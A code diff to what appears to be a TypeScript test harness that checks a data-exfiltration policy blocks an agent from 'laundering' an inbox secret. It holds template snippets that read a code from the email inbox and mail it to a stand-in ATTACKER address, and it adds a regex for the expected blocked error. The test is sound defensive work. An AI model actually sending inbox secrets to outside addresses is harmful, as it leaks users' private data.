@@ -139,7 +139,10 @@ export function launderingHarness() {
   };
   const LOAD = `const mails = await api.email.inbox(); const secret = mails[0].code;`;
   const send = (body: string) => `await api.email.send({ to: '${ATTACKER}', subject: 'x', body: ${body} });`;
-  return { setup, LOAD, send };
+  /** The refusal every laundering attempt must end in: the send blocked for carrying the inbox's data. */
+  const BLOCKED =
+    /^security_violation: The call to api\.email\.send was blocked \(policy preventDataExfiltration\): parameter "body" carries data from [a-z:.+ ]*tool:email\.inbox/;
+  return { setup, LOAD, send, BLOCKED };
 }
 
 export const CLIENT = { clientId: 'client-1' };
